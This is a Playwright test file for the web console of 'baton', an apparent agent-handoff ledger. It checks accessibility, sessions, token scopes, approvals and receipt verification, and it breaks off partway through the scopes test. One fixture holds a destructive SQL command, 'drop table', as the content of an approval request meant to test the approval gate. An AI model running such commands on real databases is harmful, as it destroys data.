// SPDX-License-Identifier: Apache-2.0
// console.mjs BATON NODE_MODULES - a real browser looks at the console: Playwright, with Debian's chromium.
//
// Every page, with an empty store and with a full one; what a tick means; what a hostile document cannot do. Each check of an
// absence has a control that shows that the thing would be seen. Pictures are kept in build/interop/console.
import { execFileSync, spawn, spawnSync } from "node:child_process";
import fs from "node:fs";
import { createRequire } from "node:module";
import os from "node:os";
import path from "node:path";
import { equal, finish } from "./tally.mjs";

const [baton, modules] = process.argv.slice(2, 4).map((name) => path.resolve(name));
const only = process.argv[5] ?? "";
const load = createRequire(path.join(modules, "x"));
const { chromium } = load("playwright");
const axe = fs.readFileSync(load.resolve("axe-core/axe.min.js"), "utf8");
const pictures = path.resolve("build/interop/console");
const wide = { width: 1360, height: 860 };
const WAIT_MS = 20000;
// What programs remember of ledgers: for this run alone.
process.env.BATON_STATE_DIR = fs.mkdtempSync(path.join(os.tmpdir(), "baton-state-"));

// ---- servers ----

function firstLine(child, pattern) {
    return new Promise((resolve, reject) => {
        let text = "";
        child.stdout.on("data", (piece) => {
            text += piece;
            const match = pattern.exec(text);
            if (match) {
                resolve(match);
            }
        });
        child.on("exit", (code) => reject(new Error(`it ended with ${code}: ${text}`)));
    });
}

function ended(child) {
    return new Promise((resolve) => (child.exitCode !== null ? resolve() : child.once("exit", resolve)));
}

class Server {
    constructor(folder) {
        this.folder = folder;
        this.port = 0;
    }

    static async empty() {
        const server = new Server(fs.mkdtempSync(path.join(os.tmpdir(), "baton-console-")));
        const ask = (...args) => execFileSync(baton, args, { cwd: server.folder, encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] });
        ask("ledger", "init", "--origin", "ledger.example/console", "--store", "store.db");
        server.token = ask("token", "new", "--tokens", "tokens.json", "--name", "viewer", "--scopes", "admin").trim();
        fs.writeFileSync(path.join(server.folder, "baton.yaml"), "auth: {anonymous: [check, submit]}\n");
        await server.start();
        return server;
    }

    async start() {
        const args = ["serve", "--store", "store.db", "--tokens", "tokens.json", "--listen", `127.0.0.1:${this.port}`];
        this.child = spawn(baton, args, { cwd: this.folder, stdio: ["ignore", "pipe", "ignore"] });
        const [, port] = await firstLine(this.child, /ready http:\/\/127\.0\.0\.1:(\d+)/);
        this.port = Number(port);
        this.base = `http://127.0.0.1:${port}`;
    }

    // The demo of script/run: every dialect, a pump, approvals.
    static async demo() {
        const server = new Server(fs.mkdtempSync(path.join(os.tmpdir(), "baton-demo-")));
        server.child = spawn("python3", ["-B", "examples/demo/run.py", baton, server.folder], { stdio: ["ignore", "pipe", "inherit"] });
        const [, base, token] = await firstLine(server.child, /Console\s+(http:\S+)\/#token=(\S+)/);
        Object.assign(server, { base, token });
        return server;
    }

    // A further token, known to the server when this returns.
    async newToken(name, scopes, ...flags) {
        const args = ["token", "new", "--tokens", "tokens.json", "--name", name, "--scopes", scopes, ...flags];
        const token = execFileSync(baton, args, { cwd: this.folder, encoding: "utf8" }).trim();
        await this.ask("/v1/admin/reload", { method: "POST" });
        return token;
    }

    as(token) {
        return { base: this.base, token };
    }

    async stop() {
        this.child.kill("SIGCONT");
        this.child.kill("SIGTERM");
        await ended(this.child);
    }

    async end() {
        await this.stop();
        fs.rmSync(this.folder, { recursive: true, force: true });
    }

    async ask(name, options = {}) {
        const response = await fetch(this.base + name, {
            ...options,
            headers: { ...options.headers, Authorization: `Bearer ${this.token}` },
        });
        return { status: response.status, body: await response.json() };
    }

    submit(document, as = "universal", type = "application/json") {
        const body = typeof document === "string" ? document : JSON.stringify(document, null, 2);
        return this.ask(`/v1/handoffs?as=${as}`, { method: "POST", body, headers: { "Content-Type": type } });
    }
}

function handoff(summary = "Build the fix.", changes = {}) {
    const handoff = {
        version: "3.0",
        schema_type: "universal",
        timestamp: "2026-04-14T08:30:00Z",
        trace_id: crypto.randomUUID(),
        source: { skill: "release-planner", workflow_id: "run-1", session_path: "session", phase: "Triage" },
        target: { skill: "patch-builder" },
        context: { summary, problem_type: "implementation" },
        payload: { working: { ticket: "DP-118" } },
        meta: { token_count: 180, confidence: "high" },
    };
    return { handoff: { ...handoff, ...changes } };
}

const block = (request) => `Report.

\`\`\`agent_contract_handoff
${JSON.stringify(
    {
        agent_status: {
            plan_status: "APPROVAL_REQUEST",
            agent_id: `a${crypto.randomUUID().replaceAll("-", "").slice(0, 16)}`,
            pending_steps: [],
            next_action: "wait",
        },
        evidence_report: {
            patterns_checked: [],
            files_checked: [],
            commands_run: [],
            key_outputs: [],
            verbatim_outputs: [],
            cross_layer_impacts: [],
            open_gaps: [],
        },
        approval_request: request,
    },
    null,
    1,
)}
\`\`\`
`;
const REQUEST = {
    operation: "drop the table",
    exact_content: "psql -c 'drop table t'",
    scope: "staging",
    risk_level: "HIGH",
    rollback: "restore",
    verification: "list",
};

// ---- browsers ----

const browser = await chromium.launch({ executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium", args: ["--no-sandbox"] });
const strays = []; // requests to elsewhere, violations of the policy, errors of scripts

async function open(server, options = {}, prepare = async () => {}) {
    const context = await browser.newContext({ viewport: wide, ...options });
    await context.addInitScript(() => {
        window.violations = [];
        document.addEventListener("securitypolicyviolation", (event) =>
            window.violations.push(`${event.violatedDirective} ${event.sourceFile}`),
        );
    });
    const page = await context.newPage();
    page.setDefaultTimeout(WAIT_MS);
    await prepare(page);
    page.on(
        "request",
        (request) => new URL(request.url()).origin === server.base || /^(blob|data):/.test(request.url()) || strays.push(request.url()),
    );
    page.on("pageerror", (error) => strays.push(`script: ${error.message}`));
    page.on("console", (message) => /Content Security Policy|TrustedHTML|Refused/.test(message.text()) && strays.push(message.text()));
    await page.goto(`${server.base}/#token=${server.token}`);
    await page.locator("h1").waitFor();
    return page;
}

async function go(page, place) {
    await page.evaluate((hash) => (location.hash = hash), `#/${place}`);
    await page.locator("h1").waitFor();
    await page.waitForFunction(() => !document.querySelector(".loading"));
}

async function judge(page, what) {
    await page.evaluate(axe); // by the debugger, which no policy binds
    const { violations } = await page.evaluate(() => window.axe.run({ runOnly: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"] }));
    equal(
        `${what}: axe has nothing to say`,
        violations.map((found) => `${found.id} ${found.nodes.map((node) => node.target.join(" ")).slice(0, 3)}`),
        [],
    );
}

// A page that axe must complain about, lest its silence mean nothing.
async function judgeControl(page) {
    await page.evaluate(axe);
    const found = await page.evaluate(() => {
        document.querySelector("main").append(document.createElement("img"), document.createElement("input"));
        return window.axe.run({ runOnly: ["wcag2a"] });
    });
    equal("control: axe complains about what is wrong", found.violations.map((violation) => violation.id).sort(), ["image-alt", "label"]);
}

async function picture(page, name) {
    await page.screenshot({ path: path.join(pictures, `${name}.png`) });
}

const proofState = (page) => page.locator(".proof").getAttribute("data-state");
async function proven(page, seq) {
    await go(page, `handoff/${seq}`);
    await page.waitForFunction(() => !["busy", undefined].includes(document.querySelector(".proof")?.dataset.state));
    return [
        await proofState(page),
        await page.locator(".proof .step-sign.good").count(),
        await page.locator(".proof h2 .step-sign.good").count(),
    ];
}

// ---- claims ----

const PLACES = ["overview", "feed", "agents", "map", "traces", "approvals", "inboxes", "tools", "pump", "ledger", "playground"];

async function looks(name, server, places) {
    for (const [mode, options] of [
        ["light", { colorScheme: "light" }],
        ["dark", { colorScheme: "dark" }],
    ]) {
        const page = await open(server, options);
        for (const place of places) {
            await go(page, place);
            await judge(page, `${name}, ${mode}, ${place.split("/")[0]}`);
            await picture(page, `${name}-${mode}-${place.split("/")[0]}${place.includes("/") ? "-one" : ""}`);
        }
        await page.context().close();
    }
    const large = await open(server, { viewport: { width: 2560, height: 1300 } });
    for (const place of places) {
        await go(large, place);
        await judge(large, `${name}, 2560 pixels, ${place.split("/")[0]}`);
        await large.screenshot({ path: path.join(pictures, `${name}-large-${place.split("/")[0]}${place.includes("/") ? "-one" : ""}.png`) });
    }
    await large.context().close();
    const phone = await open(server, { viewport: { width: 390, height: 844 } });
    for (const place of places) {
        await go(phone, place);
        await judge(phone, `${name}, 390 pixels, ${place.split("/")[0]}`);
        await phone.screenshot({ path: path.join(pictures, `${name}-phone-${place.split("/")[0]}${place.includes("/") ? "-one" : ""}.png`), fullPage: true });
    }
    await phone.context().close();
    const page = await open(server, { viewport: { width: 320, height: 640 } });
    for (const place of places) {
        await go(page, place);
        equal(
            `${name}, 320 pixels: nothing of ${place.split("/")[0]} sticks out`,
            await page.evaluate(() => document.documentElement.scrollWidth <= 320),
            true,
        );
        await page.screenshot({
            path: path.join(pictures, `${name}-narrow-${place.split("/")[0]}${place.includes("/") ? "-one" : ""}.png`),
            fullPage: true,
        });
    }
    await page.context().close();
}

async function emptyPages(server) {
    await looks("empty", server, PLACES);
    const page = await open(server);
    const words = {
        overview: "Nothing has been recorded yet",
        feed: "Nothing has been recorded yet",
        agents: "No agent handed anything over",
        map: "Nobody handed anything over",
        inboxes: "Nothing waits in any inbox",
        tools: "This server wraps no MCP servers",
        nowhere: "There is nothing at this address",
        traces: "No trace yet",
        approvals: "Nobody is asking",
        pump: "No pump is running",
        playground: "as you type",
    };
    for (const [place, text] of Object.entries(words)) {
        await go(page, place);
        equal(`an empty ${place} says what to do next`, await page.locator(".empty", { hasText: text }).count(), 1);
    }
    equal(
        "the token has left the address, and there is no cookie",
        await page.evaluate(() => [location.href.includes("token"), document.cookie, sessionStorage.length]),
        [false, "", 1],
    );
    await judgeControl(page);
    await page.context().close();
}

async function fullPages(demo) {
    // The demo fills itself; wait for one of each.
    let entries = [];
    for (let i = 0; i < 100 && (entries.length < 20 || !entries.some((item) => item.entry.dialect === "xml")); i++) {
        await new Promise((resolve) => setTimeout(resolve, 300));
        entries = (await demo.ask("/v1/handoffs?limit=200")).body.entries;
    }
    equal(
        "the demo has all five dialects",
        ["universal", "contract", "governed", "plan", "xml"].filter((name) => !entries.some((item) => item.entry.dialect === name)),
        [],
    );
    const [trace] = (await demo.ask("/v1/traces")).body.traces.sort((a, b) => b.hops - a.hops);
    const bad = entries.find((item) => item.entry.codes.includes("SCHEMA_CONST"));
    const approval = (await demo.ask("/v1/approvals")).body.approvals.find((found) => found.status === "pending");
    await looks("full", demo, [...PLACES, `handoff/${bad.seq}`, `certificate/${bad.seq}`, `traces/${trace.trace_id}`, `approvals/${approval.id}`, "tools/desk"]);
    await questions(demo, entries);
    const page = await open(demo);
    for (const dialect of ["universal", "contract", "governed", "plan", "xml"]) {
        const { seq } = entries.find((item) => item.entry.dialect === dialect);
        equal(`a receipt of ${dialect} is verified`, await proven(page, seq), ["holds", 5, 1]);
    }
    await go(page, `handoff/${bad.seq}`);
    equal("findings stand in the document", (await page.locator(".document .finding").count()) > 0, true);
    await page.getByRole("button", { name: "Show what repair would change" }).click();
    await page.locator(".diff .line.new").first().waitFor();
    await page.locator(".finding .code-button").first().click();
    await page.locator(".finding .rule").first().waitFor();
    equal("a rule explains itself", await page.locator(".finding .rule").count(), 1);
    await picture(page, "full-repair");
    await go(page, "pump");
    equal("the pump shows who may call whom", await page.locator(".graph .box").count(), 4);
    await go(page, `traces/${trace.trace_id}`);
    equal(
        "a trace has as many hops in the timeline as in the table",
        await page.locator(".lanes .hop").count(),
        await page.locator("table tbody tr").count(),
    );
    await taken(demo, page, bad.seq, trace);
    await tools(demo, page);
    await joined(demo, page, trace);
    const good = entries.find((item) => item.entry.verdict === "accepted");
    await commands(demo, page, [
        ["accepted", good.seq],
        ["rejected", bad.seq],
    ]);
    await go(page, "pump");
    await silentPump(demo, page);
    await page.context().close();
}

// Bundles from the pages are what the command verifies, and a certificate says what its entry says.
async function taken(demo, page, seq, trace) {
    const { vkey } = (await demo.ask("/v1/ledger")).body;
    for (const [place, count] of [[`handoff/${seq}`, 1], [`traces/${trace.trace_id}`, trace.hops]]) {
        await go(page, place);
        const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Download bundle" }).click()]);
        const file = path.join(demo.folder, download.suggestedFilename());
        await download.saveAs(file);
        const done = spawnSync(baton, ["ledger", "bundle", "verify", file, "--vkey", vkey, "-f", "json"], { encoding: "utf8" });
        equal(`the bundle of ${place.split("/")[0]} verifies`, [done.status, fs.readFileSync(file, "utf8").includes("<!doctype html>"), count > 0], [0, true, true]);
    }
    await go(page, `certificate/${seq}`);
    await page.locator(".certificate").waitFor();
    const told = await page.locator(".certificate").innerText();
    const { body } = await demo.ask(`/v1/handoffs/${seq}`);
    equal("a certificate has the hashes, the verdict and the key", [body.leaf_hash, body.entry.document.sha256, body.entry.verdict, vkey].filter((word) => !told.includes(word)), []);
    await page.emulateMedia({ media: "print" });
    equal("on paper there is no menu", [await page.locator("header").isVisible(), await page.locator(".certificate").isVisible()], [false, true]);
    await picture(page, "certificate-print");
    await page.emulateMedia({ media: null });
}

// Wrapped servers: what the lock has, what changed under it, and which calls were refused, as the server counts them.
async function tools(demo, page) {
    await go(page, "tools/desk");
    equal("the tools of the lock are listed", await page.locator(".pins .mono.wrap").allInnerTexts(), ["close_ticket", "find_ticket", "send_mail"]);
    await page.getByRole("button", { name: "Ask the server and compare" }).click();
    await page.locator(".change").first().waitFor();
    equal("a tool that changed under its pin is found", await page.locator(".change strong.mono").allInnerTexts(), ["/tools/send_mail"]);
    const words = await page.locator(".change").innerText();
    equal(
        "and the change is told: words, arguments that nobody reviewed, the hint",
        ["A copy goes to the archive.", "takes arguments that nobody reviewed", "bcc", "destructiveHint"].filter((word) => !words.includes(word)),
        [],
    );
    await judge(page, "what changed");
    await picture(page, "full-tools-changed");
    const refused = (await demo.ask("/v1/wrap/calls?server=desk&event=refused&limit=100")).body.calls;
    equal("calls were refused", refused.length > 0, true);
    await page.locator("[aria-label='Filter calls'] select").nth(1).selectOption("refused");
    await page.waitForFunction(() => location.hash.includes("event=refused"));
    await page.waitForFunction(() => {
        const badges = [...document.querySelectorAll("[aria-label=Calls] .badge")];
        return badges.length > 0 && badges.every((badge) => badge.textContent.includes("refused"));
    });
    const shown = await page.locator("[aria-label=Calls] tbody .mono[href]").allInnerTexts();
    equal("the page shows the refused calls of the store", refused.map((call) => `#${call.seq}`).filter((seq) => !shown.includes(seq)), []);
    const message = (await demo.ask("/v1/handoffs?dialect=xml&verdict=accepted&limit=1")).body.entries[0];
    await go(page, `traces/${message.entry.trace_id}`);
    await page.locator(".thread .steps li").first().waitFor();
    const steps = (await demo.ask(`/v1/pump/threads/${message.entry.trace_id}?client=${message.entry.source}`)).body;
    equal("a trace through the pump has each step of its thread", await page.locator(".thread .steps li").count(), (steps.result ?? steps).entries.length);
    await page.getByLabel("show payloads").check();
    await page.locator(".thread pre").first().waitFor();
    await judge(page, "a thread of the pump");
    await picture(page, "full-thread");
    await go(page, "pump");
    equal("the pump lists its messages", (await page.locator(".messages li").count()) > 0, true);
    await go(page, "tools/nobody");
    equal("an unknown server leads back", await page.locator(".empty a[href='#/tools']").count(), 1);
}

// A trace has its deliveries; the feed shows them at their handoff, with what the work is about.
async function joined(demo, page, trace) {
    const hops = (await demo.ask(`/v1/traces/${trace.trace_id}`)).body.hops.map((hop) => hop.seq);
    const deliveries = (await demo.ask("/v1/handoffs?kind=delivery&limit=500")).body.entries.filter((item) => hops.includes(item.entry.refs.parent));
    await go(page, `traces/${trace.trace_id}`);
    await page.locator(".joined-list li").first().waitFor();
    const listed = await page.locator(".joined-list li a").allInnerTexts();
    equal("a trace has the deliveries of its handoffs", [deliveries.length > 0, deliveries.map((item) => `#${item.seq}`).filter((seq) => !listed.includes(seq))], [true, []]);
    equal("and each is in the waterfall", await page.locator(".waterfall-names li").count(), hops.length + listed.length);
    const { seq } = deliveries[0];
    const { parent } = deliveries[0].entry.refs;
    await go(page, `feed?before=${Math.max(parent, seq) + 1}`);
    await page.locator(".row-link", { hasText: new RegExp(`^#${parent}$`) }).waitFor();
    const row = page.locator(".row", { has: page.locator(".row-link", { hasText: new RegExp(`^#${parent}$`) }) });
    equal("a delivery stands with its handoff", await row.locator(`.delivery[href='#/handoff/${seq}']`).count(), 1);
    equal("and not by itself", await page.locator(".row-link", { hasText: new RegExp(`^#${seq}$`) }).count(), 0);
    const { handoff } = await (await fetch(`${demo.base}/v1/handoffs/${parent}/document`, { headers: { Authorization: `Bearer ${demo.token}` } })).json();
    await row.locator(".row-title").waitFor();
    equal("a row says what the work is about", await row.locator(".row-title").innerText(), handoff.context.summary);
}

// What an operator asks, each answered by the page within three clicks and compared with the store.
async function questions(demo, entries) {
    const figure = (page, name) => page.locator(`dt:text-is("${name}") + dd`).first().innerText();
    const all = async () => (await demo.ask("/v1/handoffs?limit=500")).body.entries;
    const answer = async (what, clicks, ask) => {
        const page = await open(demo);
        let used = 0;
        const click = async (locator) => {
            used++;
            await locator.first().click();
            await page.waitForFunction(() => !document.querySelector(".loading"));
        };
        const menu = (name) => click(page.locator(`header nav a[href="#/${name}"]`));
        // The demo goes on working: the store is read before and after, and the page must say one of the two or between.
        const [before, told, after] = await ask(page, click, menu);
        const isBetween = typeof told === "number" && told >= before && told <= after;
        equal(`in ${used} of 3 clicks: ${what}`, [used <= 3 && used === clicks, isBetween || JSON.stringify(told) === JSON.stringify(after)], [true, true]);
        await page.context().close();
    };
    const rejected = async () => (await all()).filter((item) => item.entry.verdict === "rejected");
    await answer("how many were rejected in the last hour", 0, async (page) => {
        const before = (await rejected()).length;
        await page.locator(".pareto li").first().waitFor();
        return [before, Number(await figure(page, "rejected")), (await rejected()).length];
    });
    await answer("why they were rejected", 0, async (page) => {
        const count = (items, code) => items.filter((item) => item.entry.codes.includes(code)).length;
        await page.locator(".pareto li").first().waitFor();
        const code = await page.locator(".pareto li code").first().innerText();
        const row = page.locator(".pareto li", { hasText: code });
        const before = count(await rejected(), code);
        return [before - 1, Number(await row.locator(".mono").innerText()), count(await rejected(), code)];
    });
    await answer("who waits for an approval", 1, async (page, click, menu) => {
        const pending = async () => (await demo.ask("/v1/approvals")).body.approvals.filter((found) => found.status === "pending").length;
        const before = await pending();
        await menu("approvals");
        await page.locator(".inbox a").first().waitFor();
        const told = await page.locator(".inbox a", { hasText: "pending" }).count();
        return [before, told, await pending()];
    });
    await answer("is an agent worse than yesterday", 2, async (page, click, menu) => {
        await menu("agents");
        const name = "patch-reviewer";
        const mine = (items) => items.filter(({ entry }) => entry.source === name || entry.target === name).length;
        const before = mine(await all());
        await click(page.locator(`table a:text-is("${name}")`));
        const told = await figure(page, "rejected today");
        equal("an agent of today has no yesterday", await figure(page, "against yesterday"), "new");
        return [before, Number(/of (\d+)/.exec(told)[1]), mine(await all())];
    });
    await answer("prove an entry to an auditor", 3, async (page, click, menu) => {
        await menu("feed");
        const seq = Number((await page.locator(".row.accepted .row-link").first().innerText()).slice(1));
        await click(page.locator(".row-link", { hasText: new RegExp(`^#${seq}$`) }));
        await page.waitForFunction(() => document.querySelector(".proof")?.dataset.state === "holds");
        const [download] = await Promise.all([page.waitForEvent("download"), click(page.getByRole("button", { name: "Download receipt" }))]);
        const file = path.join(demo.folder, "auditor.tlog-proof");
        await download.saveAs(file);
        const { vkey } = (await demo.ask("/v1/ledger")).body;
        return [0, spawnSync(baton, ["ledger", "verify-receipt", file, "--vkey", vkey]).status, 0];
    });
    const [trace] = (await demo.ask("/v1/traces")).body.traces.sort((a, b) => b.hops - a.hops);
    await answer("follow one piece of work", 2, async (page, click, menu) => {
        await menu("traces");
        await click(page.locator(`a[href="#/traces/${trace.trace_id}"]`));
        const told = await page.locator("table tbody tr td:first-child").allInnerTexts();
        const { hops } = (await demo.ask(`/v1/traces/${trace.trace_id}`)).body;
        return [null, told, hops.map((hop) => `#${hop.seq}`)];
    });
    await answer("what did it cost", 2, async (page, click, menu) => {
        const { hops } = (await demo.ask(`/v1/traces/${trace.trace_id}`)).body;
        let tokens = 0;
        for (const hop of hops) {
            tokens += (await demo.ask(`/v1/handoffs/${hop.seq}/report`)).body.documents[0].facts.tokens?.exact ?? 0;
        }
        await menu("traces");
        await click(page.locator(`a[href="#/traces/${trace.trace_id}"]`));
        await page.waitForFunction(() => [...document.querySelectorAll("dd")].some((dd) => dd.previousElementSibling?.textContent.startsWith("tokens") && dd.textContent !== "0"));
        equal("the work has its own name", (await page.locator("h1").innerText()) !== "Trace", true);
        return [tokens, Number((await figure(page, "tokens of its documents")).replaceAll(",", "")), tokens];
    });
    // Of its last 20 handoffs, those that it sent; other work goes on meanwhile, so both moments are right.
    const costOf = async (name) => {
        const lists = await Promise.all(["source", "target"].map(async (side) => (await demo.ask(`/v1/handoffs?${side}=${name}&limit=20`)).body.entries));
        const last = [...new Map(lists.flat().map((item) => [item.seq, item])).values()].sort((a, b) => b.seq - a.seq).slice(0, 20);
        const sent = last.filter(({ entry }) => entry.source === name && entry.kind === "handoff");
        const reports = await Promise.all(sent.map(async ({ seq }) => (await demo.ask(`/v1/handoffs/${seq}/report`)).body));
        return reports.reduce((sum, report) => sum + (report.documents[0].facts.tokens?.exact ?? 0), 0);
    };
    await answer("what did an agent cost", 2, async (page, click, menu) => {
        await menu("agents");
        const before = await costOf("patch-builder");
        await click(page.locator('table a:text-is("patch-builder")'));
        const cost = page.locator("p", { hasText: /^[1-9][\d,]* tokens in the documents of its last/ });
        await cost.waitFor();
        const told = Number(/^[\d,]+/.exec(await cost.innerText())[0].replaceAll(",", ""));
        const after = await costOf("patch-builder");
        return [null, [before, after].includes(told), true];
    });
    await answer("what does the pump do now", 1, async (page, click, menu) => {
        const processed = async () => (await demo.ask("/v1/pump/status")).body.result.processed;
        const before = await processed();
        await menu("pump");
        await page.locator("dt:text-is('processed')").waitFor();
        return [before, Number(await figure(page, "processed")), await processed()];
    });
    await answer("what waits in inboxes", 1, async (page, click, menu) => {
        const waiting = async () => (await demo.ask("/v1/inboxes")).body.inboxes.reduce((sum, inbox) => sum + inbox.waiting, 0);
        const before = await waiting();
        await menu("inboxes");
        const told = Number(/\d+/.exec(await page.locator(".page-aside").innerText())[0]);
        const after = await waiting();
        return [Math.min(before, after), told, Math.max(before, after)];
    });
    equal("control: the demo has something to ask about", entries.length > 0, true);
}

// A pump that dies without a word is an alarm, soon, with what it said last.
async function silentPump(demo, page) {
    equal("control: a pump that runs is not an alarm", await page.locator(".figures", { hasText: "running" }).count(), 1);
    const pids = execFileSync("pgrep", ["-f", "--parent", String(demo.child.pid), "pump run"], { encoding: "utf8" }).trim().split("\n");
    demo.child.kill("SIGSTOP"); // the demo would end the server, too
    process.kill(Number(pids[0]), "SIGKILL");
    await page.locator("[role=alert]", { hasText: "The pump does not answer" }).waitFor({ timeout: 8000 });
    equal("and it is not said to run", await page.locator(".figures", { hasText: "no answer" }).count(), 1);
    await judge(page, "a pump that does not answer");
    await picture(page, "pump-silent");
    demo.child.kill("SIGCONT");
}

// What is printed to be run is run, as it stands, in the folder where the page says.
async function commands(demo, page, seqs) {
    const runs = (text) => spawnSync("sh", ["-c", text.replace(/^baton /, `${baton} `)], { cwd: demo.folder }).status;
    for (const [verdict, seq] of seqs) {
        await go(page, `handoff/${seq}`);
        await page.locator(".proof summary", { hasText: "Check it yourself" }).click();
        const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Download receipt" }).click()]);
        await download.saveAs(path.join(demo.folder, download.suggestedFilename()));
        const text = await page.locator(".proof .command code").innerText();
        equal(`the printed command verifies the receipt of what was ${verdict}`, runs(text), 0);
        equal("control: with another key it does not", runs(text.replace(/--vkey '[^']*'/, "--vkey 'other.example/log+12345678+AAAA'")) !== 0, true);
    }
    await go(page, "ledger");
    const text = await page.locator("section[aria-labelledby=yourself] .command code").innerText();
    equal("the printed command verifies the ledger", runs(text), 0);
}

// Who has no token may do what anybody on this machine may, and is told what the rest needs.
async function anonymous(server) {
    const page = await open({ ...server, base: server.base, token: "none" });
    await page.locator(".empty", { hasText: "Nothing has been recorded yet" }).waitFor();
    equal(
        "a stranger is named",
        await page
            .locator(".foot")
            .innerText()
            .then((text) => text.includes("as local")),
        true,
    );
    await go(page, "approvals");
    await page.locator(".empty", { hasText: "needs the scope approve" }).waitFor();
    await judge(page, "without a scope");
    await page.getByRole("button", { name: "Sign in…" }).click();
    await judge(page, "signing in");
    await picture(page, "sign-in");
    await signIn(page, server.token);
    await page.locator(".empty", { hasText: "Nobody is asking" }).waitFor();
    equal("a token can be pasted", await page.evaluate(() => sessionStorage.length), 1);
    await page.evaluate(() => sessionStorage.setItem("baton.token", `bt_${"A".repeat(43)}`));
    await page.reload();
    await page.getByRole("button", { name: "Go on without a token" }).click();
    await page.locator(".empty", { hasText: "needs the scope approve" }).waitFor();
    equal("a token that is not known is asked for, or forgotten", await page.evaluate(() => sessionStorage.length), 0);
    await page.context().close();
}

async function signIn(page, token) {
    await page.getByLabel("Token").fill(token);
    await page.getByRole("button", { name: "Sign in", exact: true }).click();
}

// One session over all tabs: a new one has it, a link keeps its place, and who signs out does so everywhere.
async function session(server) {
    await server.submit(handoff("Somebody else's."));
    const stranger = await open(server.as("none"));
    await stranger.locator(".empty", { hasText: "Sign in to see what was recorded" }).waitFor();
    equal("what may not be seen does not look like nothing", await stranger.locator(".empty", { hasText: "Nothing has been" }).count(), 0);
    await judge(stranger, "nothing to see without a token");
    await picture(stranger, "stranger");
    await stranger.context().close();

    const page = await open(server);
    const context = page.context();
    const [clicked] = await Promise.all([
        context.waitForEvent("page"),
        page.locator('nav a[href="#/ledger"]').click({ modifiers: ["Control"] }),
    ]);
    const pasted = await context.newPage();
    await pasted.goto(`${server.base}/#/ledger`);
    for (const tab of [clicked, pasted]) {
        await tab.locator("#consistency").waitFor();
    }
    equal("nothing but the tab's own storage has the token", await pasted.evaluate(() => [document.cookie, localStorage.getItem("baton.token")]), ["", null]);
    await page.locator(".user summary").click();
    await picture(page, "user-menu");
    await page.getByRole("button", { name: "Sign out" }).click();
    for (const tab of [clicked, pasted]) {
        await tab.locator(".empty", { hasText: "needs the scope operate" }).waitFor();
    }
    equal("signing out holds for all tabs", await pasted.evaluate(() => sessionStorage.length), 0);
    await context.close();
    const lonely = await open(server.as("none"));
    await go(lonely, "ledger");
    equal("control: another browser has no session", await lonely.locator("#consistency").count(), 0);
    await lonely.goto("about:blank");
    await lonely.goto(`${server.base}/#token=${server.token}&to=/approvals/none`);
    await lonely.locator("h1", { hasText: "Approvals" }).waitFor();
    equal("a link that signs in leads to its place", await lonely.evaluate(() => location.hash), "#/approvals/none");
    await lonely.context().close();

    const soon = new Date(Date.now() + 4000).toISOString().replace(/\.\d+Z/, "Z");
    const late = await open(server.as(await server.newToken("short", "admin", "--expires", soon)));
    await go(late, "ledger");
    await late.locator("#consistency").waitFor();
    await late.locator("dialog.signin").waitFor();
    equal("a token that expires is asked for anew, over the page", await late.locator("#consistency").count(), 1);
    await signIn(late, server.token);
    await late.locator("dialog.signin").waitFor({ state: "detached" });
    await late.locator("#consistency").waitFor();
    equal("and the page is the same", await late.evaluate(() => location.hash), "#/ledger");
    await late.context().close();
}

// A token that is revoked, a page that may not be seen, and a server that refuses each answer of a page.
async function refusals(server) {
    const token = await server.newToken("leaver", "admin");
    const leaver = await open(server.as(token));
    await go(leaver, "ledger");
    await leaver.locator("#consistency").waitFor();
    execFileSync(baton, ["token", "revoke", "--tokens", "tokens.json", "leaver"], { cwd: server.folder });
    await server.ask("/v1/admin/reload", { method: "POST" });
    await leaver.locator("dialog.signin").waitFor();
    equal("a revoked token is asked for anew, over the page", await leaver.locator("#consistency").count(), 1);
    await signIn(leaver, server.token);
    await leaver.locator("dialog.signin").waitFor({ state: "detached" });
    equal("and the page is the same", await leaver.evaluate(() => location.hash), "#/ledger");
    await leaver.context().close();

    const checker = await open(server.as(await server.newToken("checker", "check")));
    for (const place of PLACES.filter((name) => name !== "playground")) {
        await go(checker, place);
        equal(`${place} says which scope it needs`, await checker.locator(".empty", { hasText: "This page needs the scope" }).count(), 1);
    }
    await checker.context().close();

    const refused = await open(server);
    const body = JSON.stringify({ type: "/problems/SCOPE_MISSING", title: "scope missing", status: 403, code: "SCOPE_MISSING", scope: "operate" });
    await refused.route(
        (url) => url.pathname.startsWith("/v1/") && url.pathname !== "/v1/whoami",
        (route) => route.fulfill({ status: 403, contentType: "application/problem+json", body }),
    );
    await refused.reload();
    for (const place of PLACES) {
        await go(refused, place);
        if (place === "playground") {
            await refused.locator("textarea").fill('{"handoff": {}}');
            // The browser goes on alone, and says so.
            await refused.locator(".judge", { hasText: "the server does not judge for this token" }).waitFor();
        } else {
            await refused.locator("[role=alert]", { hasText: "SCOPE_MISSING" }).first().waitFor();
        }
        equal(`403 on ${place}: refused, and not empty or zero`, await refused.locator(".empty").count(), 0);
    }
    await refused.context().close();
}

// Tokens with one scope each: an approver sees requests as they come and are decided, an operator sees the ledger.
async function scopes(server) {
    const approver = await open(server.as(await server.newToken("approver", "approve")));
    await approver.locator("h1", { hasText: "Approvals" }).waitFor();
    equal("the start page is one that may be seen", await approver.locator('nav a[aria-current="page"]').getAttribute("href"), "#/approvals");
    await approver.locator(".dot.good").waitFor();
    const operation = `live ${crypto.randomUUID()}`;
    await server.submit(block({ ...REQUEST, operation }), "contract", "text/markdown");
    await approver.locator(".inbox a", { hasText: operation }).click();
    await approver.locator(".decide").waitFor();
    const { approvals } = (await server.ask("/v1/approvals")).body;
    const { id } = approvals.find((found) => found.operation === operation);
    const shown = async () => (await server.ask("/v1/ledger")).body.size;
    const before = await shown();
    await new Promise((resolve) => setTimeout(resolve, 1500));
    equal("a request that nobody touches is shown once", await shown(), before);
    const denied = { method: "POST", body: "{}", headers: { "Content-Type": "application/json" } };
    await server.ask(`/v1/approvals/${id}/deny`, denied);
    await approver.locator(".approval .badge", { hasText: "rejected" }).waitFor();
    equal("what somebody else decided cannot be decided again", await approver.locator(".decide").count(), 0);
    await picture(approver, "approver");
    await approver.context().close();
    const operator = await open(server.as(await server.newToken("operator", "operate")));
    await go(operator, "feed");
